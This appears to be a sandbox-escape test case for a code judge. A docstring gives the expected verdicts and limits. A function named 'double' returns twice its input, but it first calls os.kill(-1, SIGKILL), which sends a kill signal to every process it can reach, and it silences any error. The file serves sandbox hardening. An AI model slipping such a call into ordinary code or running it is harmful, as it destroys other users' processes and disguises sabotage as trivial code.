"""
verdict = ["AC", "RTE"]
points_at_most = 7
wall_s = 30
exploits = "Sends SIGKILL to every process that it may."
stops = "It sees its own namespace only; where there is none, the filter refuses the signal to all."
"""

import os
import signal


def double(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 2 * x
